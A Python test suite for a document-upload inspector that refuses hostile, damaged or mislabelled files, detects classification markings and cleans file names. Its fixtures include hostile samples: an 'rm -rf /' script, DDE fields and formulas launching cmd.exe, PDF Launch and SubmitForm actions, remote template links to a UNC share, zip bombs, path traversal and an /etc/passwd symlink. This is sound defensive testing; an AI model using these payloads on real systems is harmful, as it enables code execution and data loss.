"""Hostile, damaged and mislabelled files are refused by their content; whole ones are taken; doubt goes to a person."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import replace

import pytest
import xlsxwriter
from PIL import Image
from pypdf import PdfReader, PdfWriter

from duban.documents.files.uploads import NAME_MOST, Upload, cleaned_name
from duban.documents.inspection.one_file import inspect
from duban.documents.inspection.shapes import MB, MEDIA_TYPES, Shape, suffix_of
from duban.documents.inspection.verdicts import Level, Refused
from duban.documents.intake import Marked, examine
from tests import files

TAKEN = tuple(suffix for suffix in MEDIA_TYPES if suffix not in (".zip", ".xls"))
SHAPE = Shape(accept=TAKEN, day="2026-03-02")


def refused(name: str, content: bytes, shape: Shape = SHAPE) -> Refused:
    """The refusal of a file."""
    with pytest.raises(Refused) as error:
        inspect(name, content, shape)
    return error.value


def encrypted_pdf() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(files.pdf())))
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_attachment() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(files.pdf())))
    writer.add_attachment("x.exe", b"MZ")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def flipped(content: bytes, after: bytes, by: int) -> bytes:
    """The same bytes with one turned over, some way after a mark."""
    at = content.index(after) + len(after) + by
    return content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]


def encrypted_zip() -> bytes:
    """A container whose entries claim to be encrypted."""
    content = bytearray(files.docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def overlapping_zip() -> bytes:
    """A container whose directory names the same bytes many times."""
    content = files.packed({"a.xml": b"<a/>" * 100})
    start = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    entry = content[start:end]
    entries = b"".join(entry.replace(b"a.xml", b"%c.xml" % (98 + n)) for n in range(20))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 20, 20, len(entries), start, 0)
    return content[:start] + entries + tail


def linked(target: str, kind: str = "attachedTemplate") -> bytes:
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )
    return files.docx(more={"word/_rels/document.xml.rels": relation})


def macro_typed() -> bytes:
    parts = files.docx_parts()
    parts["[Content_Types].xml"] = str(parts["[Content_Types].xml"]).replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return files.packed(parts)


def symlinked() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in files.docx_parts().items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/media/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def nested(depth: int) -> bytes:
    content = files.docx()
    for _ in range(depth):
        content = files.docx(more={"word/embeddings/inner.docx": content})
    return content


def endless() -> bytes:
    """A document that holds itself as deep as anybody looks, under a name that says nothing."""
    content = files.docx()
    for _ in range(40):
        content = files.docx(more={"word/embeddings/inner": content})
    return content


FETCHING = '<w:p><w:r><w:instrText> INCLUDEPICTURE "\\\\\\\\203.0.113.9\\\\x.png" </w:instrText></w:r></w:p>'
_DRAWN = random.Random(7)
RANDOM = b"".join(bytes([_DRAWN.randrange(0x81, 0xFE), _DRAWN.randrange(0xA1, 0xFE)]) for _ in range(200))
RANDOM_16 = b"".join(struct.pack("<H", _DRAWN.choice((*range(0x100, 0xD800), *range(0xE000, 0xFFFE)))) for _ in range(300))
BOMB = files.docx(more={"word/media/zeros.xml": b"<a>" + b"0" * (30 * MB) + b"</a>"})
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><w:hdr xmlns:w="x">&b;</w:hdr>'
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DDE = '<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe "/k" </w:instrText></w:r></w:p>'
LOCKED = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")

HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a kind that is not taken": ("a.exe", lambda: b"MZ", "type"),
    "no suffix": ("readme", lambda: b"text", "type"),
    "a web page": ("a.html", lambda: b"<html>", "type"),
    "an svg": ("a.svg", lambda: b"<svg>", "type"),
    "an old Word file": ("a.doc", lambda: LOCKED, "type"),
    "a zip": ("a.zip", files.docx, "type"),
    "a macro format": ("a.docm", files.docx, "macro"),
    "an empty file": ("a.pdf", lambda: b"", "empty"),
    "a program called pdf": ("a.pdf", lambda: b"MZ\x90\0" * 100, "suffix"),
    "a linux program called txt": ("a.txt", lambda: b"\x7fELF" * 100, "suffix"),
    "a web page called txt": ("a.txt", lambda: b"\n <!DOCTYPE html><script>alert(1)</script>", "suffix"),
    "an svg called png": ("a.png", lambda: b"<svg onload='x'/>", "suffix"),
    "a script called csv": ("a.csv", lambda: b"#!/bin/sh\nrm -rf /\n", "suffix"),
    "a jpeg called png": ("a.png", lambda: files.picture("JPEG"), "suffix"),
    "a gif called png": ("a.png", lambda: b"GIF89a" + b"\0" * 40, "suffix"),
    "binary called txt": ("a.txt", lambda: bytes(range(256)) * 20, "suffix"),
    "control characters in text": ("a.txt", lambda: b"abc\x1b[31mred" * 20, "suffix"),
    "text in no known encoding": ("a.txt", lambda: b"\xff\x81\x30" * 50, "encoding"),
    "a pdf called docx": ("a.docx", files.pdf, "suffix"),
    "an xlsx called docx": ("a.docx", files.xlsx, "suffix"),
    "a docx called ofd": ("a.ofd", files.docx, "suffix"),
    "a plain zip called xlsx": ("a.xlsx", lambda: files.packed({"a.txt": b"x"}), "suffix"),
    "an encrypted docx": ("a.docx", lambda: LOCKED, "encrypted"),
    "encrypted entries": ("a.docx", encrypted_zip, "encrypted"),
    "an encrypted pdf": ("a.pdf", encrypted_pdf, "encrypted"),
    "half a pdf": ("a.pdf", lambda: files.pdf()[:-300], "damaged"),
    "a pdf with a broken stream": ("a.pdf", lambda: flipped(files.pdf(), b"stream\nx", 8), "damaged"),
    "a pdf without pages": ("a.pdf", lambda: b"%PDF-1.7\nnothing\n%%EOF\n", "damaged"),
    "half a docx": ("a.docx", lambda: files.docx()[:-60], "damaged"),
    "a docx with a broken entry": ("a.docx", lambda: flipped(files.docx(), b"word/document.xml", 12), "damaged"),
    "a docx with broken XML": ("a.docx", lambda: files.docx(more={"word/footer1.xml": "<a><b></a>"}), "damaged"),
    "half a jpeg": ("a.jpg", lambda: files.picture("JPEG", (640, 480))[:-400], "damaged"),
    "half a png": ("a.png", lambda: files.picture("PNG", (640, 480))[:-40], "damaged"),
    "an enormous picture": ("a.png", files.enormous_png, "pixels"),
    "macros": ("a.docx", lambda: files.docx(more={"word/vbaProject.bin": b"x"}), "macro"),
    "macros in capitals": ("a.xlsx", lambda: files.xlsx(more={"xl/VBAPROJECT.BIN": b"x"}), "macro"),
    "macro sheets": ("a.xlsx", lambda: files.xlsx(more={"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"),
    "controls": ("a.docx", lambda: files.docx(more={"word/activeX/activeX1.bin": b"x"}), "macro"),
    "a macro content type": ("a.docx", macro_typed, "macro"),
    "an OLE object": ("a.docx", lambda: files.docx(more={"word/embeddings/oleObject1.bin": b"x"}), "ole"),
    "a DDE field": ("a.docx", lambda: files.docx(body=DDE), "dde"),
    "a template from elsewhere": ("a.docx", lambda: linked("http://203.0.113.9/x.dotm"), "remote"),
    "a template from a share": ("a.docx", lambda: linked("\\\\203.0.113.9\\x.dotm"), "remote"),
    "a template from a host": ("a.docx", lambda: linked("file://203.0.113.9/x.dotm"), "remote"),
    "a template from a share by slashes": ("a.docx", lambda: linked("file://///203.0.113.9/x.dotm"), "remote"),
    "a template from a share written out": ("a.docx", lambda: linked("file:///%5C%5C203.0.113.9%5Cx.dotm"), "remote"),
    "a link to a share": ("a.docx", lambda: linked("file:///\\\\203.0.113.9\\x", "hyperlink"), "remote"),
    "a field that fetches": ("a.docx", lambda: files.docx(body=FETCHING), "remote"),
    "elements without end": ("a.docx", lambda: files.docx(body="<w:p>" * 5000 + "</w:p>" * 5000), "nesting"),
    "a file in itself without end": ("a.docx", endless, "nesting"),
    "a container with another name": ("a.docx", lambda: files.docx(more={"word/media/a.png": nested(3)}), "nesting"),
    "a program called picture": ("a.docx", lambda: files.docx(more={"word/media/a.png": b"MZ\x90" * 9}), "ole"),
    "random bytes called txt": ("a.txt", lambda: RANDOM, "suffix"),
    "random bytes in UTF-16": ("a.txt", lambda: b"\xff\xfe" + RANDOM_16, "suffix"),
    "an open quote": ("a.csv", lambda: '单位,数\n甲镇,"3\n乙镇,4\n'.encode(), "quote"),
    "an ofd whose document is missing": ("a.ofd", lambda: files.ofd(root="Doc_1/Document.xml"), "suffix"),
    "a frame from elsewhere": ("a.docx", lambda: linked("page.html", "frame"), "remote"),
    "entities": ("a.docx", lambda: files.docx(more={"word/header2.xml": ENTITIES}), "entity"),
    "a zip bomb": ("a.docx", lambda: BOMB, "bomb"),
    "too many entries": ("a.docx", lambda: files.docx(more={f"word/{n}.xml": "<a/>" for n in range(2001)}), "bomb"),
    "overlapping entries": ("a.docx", overlapping_zip, "bomb"),
    "a way out of the folder": ("a.docx", lambda: files.docx(more={"../../etc/cron": b"x"}), "path"),
    "an absolute path": ("a.docx", lambda: files.docx(more={"/etc/cron": b"x"}), "path"),
    "a drive": ("a.docx", lambda: files.docx(more={"C:\\x.bin": b"x"}), "path"),
    "a symbolic link": ("a.docx", symlinked, "path"),
    "files in files in files in files": ("a.docx", lambda: nested(4), "nesting"),
    "a broken file inside": ("a.docx", lambda: files.docx(more={"word/embeddings/a.xlsx": b"PK\x03\x04x"}), "damaged"),
    "something before a zip": ("a.docx", lambda: b"PK\x03\x04" + b"\0" * 40 + files.docx(), "polyglot"),
    "something after a zip": ("a.docx", lambda: files.docx() + b"MZ" * 400, "polyglot"),
    "a zip after a pdf": ("a.pdf", lambda: files.pdf() + files.docx(), "polyglot"),
    "a script in a pdf": ("a.pdf", lambda: files.pdf(extra="<< /S /JavaScript /JS (x) >>"), "active"),
    "a script with a written-out name": ("a.pdf", lambda: files.pdf(extra="<< /S /Java#53cript >>"), "active"),
    "a script packed away": ("a.pdf", lambda: files.pdf(extra=files.object_stream(b"<< /S /JavaScript >>")), "active"),
    "a program to be started": ("a.pdf", lambda: files.pdf(extra="<< /S /Launch /F (cmd.exe) >>"), "active"),
    "data to be sent away": ("a.pdf", lambda: files.pdf(extra="<< /S /SubmitForm /F (http://x) >>"), "active"),
    "a file in a pdf": ("a.pdf", pdf_with_attachment, "active"),
    "a dynamic form": ("a.pdf", lambda: files.pdf(extra="<< /XFA 9 0 R >>"), "active"),
    "an ofd without a document": ("a.ofd", lambda: files.packed({"OFD.xml": "<a/>"}), "suffix"),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_what_is_hostile_damaged_or_mislabelled_is_refused(what: str) -> None:
    name, make, rule = HOSTILE[what]
    error = refused(name, make())
    assert error.rule == rule, error.message
    assert name in error.message or suffix_of(name) in error.message
    assert error.message.endswith("。")


@pytest.mark.parametrize(("name", "content"), [
    ("a.pdf", files.pdf()), ("a.docx", files.docx()), ("a.xlsx", files.xlsx()), ("a.ofd", files.ofd()),
    ("small.ofd", files.ofd(root="Doc.xml")), ("old.txt", "進展順利，水庫除險加固工程已完成百分之六十。".encode()),
    ("a.txt", "进展顺利。".encode()), ("b.txt", "进展顺利。".encode("gb18030")), ("c.txt", "进展顺利。".encode("utf-16")),
    ("a.csv", "单位,数\n甲镇,3\n".encode()), ("A.PDF", files.pdf()), ("link.docx", linked("https://example.org/", "hyperlink")),
])  # fmt: skip
def test_a_whole_file_is_taken_as_it_is(name: str, content: bytes) -> None:
    found = inspect(name, content, SHAPE)
    assert found.level is Level.CLEAN
    assert found.content is None
    assert found.media_type == MEDIA_TYPES[suffix_of(name)]


def test_a_link_to_a_local_template_is_told_and_taken() -> None:
    found = inspect("a.docx", linked("file:///C:/Users/x/Normal.dotm"), SHAPE)
    assert found.notes == ("文件里有到其他文件的链接，链接没有读取。",)


MARK = "机密★1年"
BOX = f"<w:p><w:pict><w:txbxContent><w:p><w:t>{MARK}</w:t></w:p></w:txbxContent></w:pict></w:p>"
WATERMARK = '<w:hdr xmlns:w="x" xmlns:v="y"><v:textpath string="绝密"/></w:hdr>'
SHEET_HEAD = '<worksheet xmlns="x"><headerFooter><oddHeader>&amp;C&amp;"黑体"机密</oddHeader></headerFooter></worksheet>'
SHEET_NAME = '<workbook xmlns="x"><sheets><sheet name="机密★"/></sheets></workbook>'


def part(tag: str, text: str) -> str:
    """A part of a Word file with one paragraph."""
    return f'<w:{tag} xmlns:w="{WORD}"><w:p><w:t>{text}</w:t></w:p></w:{tag}>'


HIDDEN: dict[str, tuple[str, bytes]] = {
    "the name": ("机密★1年.txt", b"x"),
    "a text": ("a.txt", MARK.encode()),
    "a text in GB18030": ("a.txt", MARK.encode("gb18030")),
    "a cell of a csv": ("a.csv", f"单位,说明\n甲镇,{MARK}\n".encode()),
    "the body": ("a.docx", files.docx("标题", MARK)),
    "runs torn apart": (
        "a.docx",
        files.docx(body="<w:p>" + "".join(f"<w:r><w:t>{c}</w:t></w:r>" for c in MARK) + "</w:p>"),
    ),
    "a header": ("a.docx", files.docx(header=MARK)),
    "a footer": ("a.docx", files.docx(more={"word/footer3.xml": part("ftr", "秘密")})),
    "a text box": (
        "a.docx",
        files.docx(body=BOX),
    ),
    "a watermark": (
        "a.docx",
        files.docx(more={"word/header9.xml": WATERMARK}),
    ),
    "a comment": ("a.docx", files.docx(more={"word/comments.xml": part("comments", MARK)})),
    "a footnote": ("a.docx", files.docx(more={"word/footnotes.xml": part("footnotes", MARK)})),
    "the properties": (
        "a.docx",
        files.docx(more={"docProps/core.xml": '<c xmlns="x"><keywords>机密</keywords></c>'}),
    ),
    "a star of Wingdings": (
        "a.docx",
        files.docx(body='<w:p><w:t>机密</w:t><w:sym w:font="Wingdings" w:char="F0AB"/></w:p>'),
    ),
    "a deleted passage": (
        "a.docx",
        files.docx(body=f"<w:p><w:del><w:r><w:delText>{MARK}</w:delText></w:r></w:del></w:p>"),
    ),
    "a cell": ("a.xlsx", files.xlsx("单位", MARK)),
    "cells side by side": ("a.xlsx", files.xlsx("密级", "机密")),
    "the name of a sheet": ("a.xlsx", files.xlsx(more={"xl/workbook.xml": SHEET_NAME})),
    "the head of a sheet": ("a.xlsx", files.xlsx(more={"xl/worksheets/sheet2.xml": SHEET_HEAD})),
    "a sheet inside a document": ("a.docx", files.docx(more={"word/embeddings/a.xlsx": files.xlsx(MARK)})),
    "an OFD": ("a.ofd", files.ofd(MARK)),
    "a page of a pdf": ("a.pdf", files.pdf("第一页没有", "第二页\n" + MARK)),
    "the properties of a pdf": ("a.pdf", files.pdf(meta={"Keywords": "机密"})),
    "the description of a picture": ("a.png", b""),
}


@pytest.mark.parametrize("where", HIDDEN)
def test_a_marking_is_found_wherever_it_stands(where: str) -> None:
    name, content = HIDDEN[where]
    if where == "the description of a picture":
        from PIL.PngImagePlugin import PngInfo

        info = PngInfo()
        info.add_itxt("Description", MARK)
        content = files.picture("PNG", pnginfo=info)
    assert inspect(name, content, SHAPE).level is Level.BLOCK


def test_an_archive_is_looked_into_where_archives_are_taken() -> None:
    wide = replace(SHAPE, accept=(*TAKEN, ".zip"))
    assert inspect("a.zip", files.packed({"说明.txt": "进展".encode()}), wide).level is Level.CLEAN
    assert inspect("a.zip", files.packed({"说明.txt": MARK.encode()}), wide).level is Level.BLOCK
    assert inspect("a.zip", files.packed({"机密★.txt": b"x"}), wide).level is Level.BLOCK
    assert refused("a.zip", files.packed({"run.exe": b"MZ"}), wide).rule == "type"


@pytest.mark.parametrize(("name", "content", "place"), [
    ("现场.jpg", files.picture("JPEG"), "图片"), ("现场.png", files.picture(), "图片"),
    ("批示.pdf", files.scanned_pdf(3), "第 1、2、3 页（共 3 页）"),
    ("只有图.docx", files.docx("图", more={"word/media/a.png": files.picture()}), "文中的图片"),
])  # fmt: skip
def test_what_has_no_text_is_never_clean_and_goes_to_a_person(name: str, content: bytes, place: str) -> None:
    found = inspect(name, content, SHAPE)
    assert (found.level, found.unread) == (Level.PERSON, (place,))


def test_a_last_page_with_little_on_it_is_no_scan() -> None:
    assert (
        inspect("a.pdf", files.pdf("督查整改情况汇总报告，共完成三项。", "五月二日"), SHAPE).level
        is Level.CLEAN
    )


def test_large_pictures_beside_text_have_to_be_declared() -> None:
    noise = Image.effect_noise((600, 500), 80)
    out = io.BytesIO()
    noise.save(out, "PNG")
    found = inspect("a.docx", files.docx(more={"word/media/a.png": out.getvalue()}), SHAPE)
    assert [finding.rule for finding in found.findings] == ["pictures"]
    assert found.level is Level.WARN


def test_a_picture_keeps_nothing_but_the_picture_and_stands_upright() -> None:
    exif = Image.Exif()
    exif[0x0112], exif[0x010E], exif[0x0110] = 6, "place and person", "camera"
    out = io.BytesIO()
    Image.new("RGB", (80, 40), "red").save(out, "JPEG", exif=exif, comment=b"note")
    kept = inspect("a.jpg", out.getvalue() + files.docx(), SHAPE).content
    assert kept is not None
    assert b"PK" not in kept and b"place" not in kept and b"note" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert image.size == (40, 80)
        assert not image.getexif()


def test_a_file_beyond_the_limit_is_told_its_size_and_the_limit() -> None:
    error = refused("a.txt", b"a" * (2 * MB), replace(SHAPE, largest=MB))
    assert error.message == "“a.txt”有 2.0 MB，超过 1 MB，没有接收。请压缩图片或分成几份。"


def test_the_same_file_is_judged_alike_in_a_process_of_its_own(county: object) -> None:
    taken = examine(Upload("方案.docx", files.docx()))
    assert (taken.level, taken.sha256, taken.content) == (Level.CLEAN, taken.received_sha256, files.docx())
    photo = examine(Upload("现场.jpg", files.picture("JPEG", comment=b"x")))
    assert photo.sha256 != photo.received_sha256
    assert (photo.needs_declaration, photo.needs_second_look) == (True, True)
    assert photo.why == "图片没有可读的文字，系统无法检查"
    with pytest.raises(Refused, match="宏"):
        examine(Upload("a.docx", files.docx(more={"word/vbaProject.bin": b"x"})))
    with pytest.raises(Marked) as marked:
        examine(Upload("a.docx", files.docx(header=MARK)))
    assert marked.value.rule == "star-term"


def test_what_is_to_become_of_the_unreadable_is_a_setting(county: object, settings: object) -> None:
    scan = Upload("批示.pdf", files.scanned_pdf())
    settings.UPLOADS = {**settings.UPLOADS, "unreadable": "declare"}  # type: ignore[attr-defined]
    seen = examine(scan)
    assert (seen.needs_declaration, seen.needs_second_look) == (True, False)
    settings.UPLOADS = {**settings.UPLOADS, "unreadable": "refuse"}  # type: ignore[attr-defined]
    with pytest.raises(Refused, match="设置为不收"):
        examine(scan)


def test_a_file_that_takes_too_long_or_too_much_memory_is_refused(
    county: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    from duban.documents.intake import apart
    from duban.documents.intake.limits import limits

    shape = replace(limits().shape(), memory=40 * MB)
    with pytest.raises(Refused) as error:
        apart.inspect_apart(
            "a.docx", files.docx(more={"word/a.xml": b"<a>" + b" " * 9 * MB + b"</a>"}), shape
        )
    assert error.value.rule == "costly"
    monkeypatch.setattr(apart, "_CHILD", ("sleep", "9"))
    monkeypatch.setattr(apart, "_PATIENCE", 0)
    with pytest.raises(Refused, match="检查不完"):
        apart.inspect_apart("a.txt", b"x", replace(shape, seconds=1))


@pytest.mark.parametrize(("given", "kept"), [
    ("C:\\Users\\张某\\方案.docx", "方案.docx"), ("../../etc/passwd.txt", "passwd.txt"), ("a\u202etxt.exe", "atxt.exe"),
    ("方案\r\n.pdf", "方案.pdf"), ("  .pdf", "文件.pdf"), ("", "文件"), ("CON.txt", "文件CON.txt"), ("a<b>:c|?.pdf", "abc.pdf"),
    ("方案   终稿.pdf", "方案 终稿.pdf"), ("." * 5, "文件"),
])  # fmt: skip
def test_a_name_is_kept_without_what_could_do_harm(given: str, kept: str) -> None:
    assert cleaned_name(given) == kept


def test_a_long_name_is_cut_and_keeps_its_suffix() -> None:
    kept = cleaned_name("关于" * 200 + ".docx")
    assert len(kept) <= NAME_MOST and kept.endswith(".docx")


def test_a_formula_that_starts_a_program_is_named_with_its_cell() -> None:
    target = io.BytesIO()
    with xlsxwriter.Workbook(target) as book:
        book.add_worksheet("表").write_formula("B3", "=cmd|'/C calc'!A0")
    error = refused("报表.xlsx", target.getvalue())
    assert error.rule == "dde" and "单元格 B3 里有 DDE 公式" in error.message
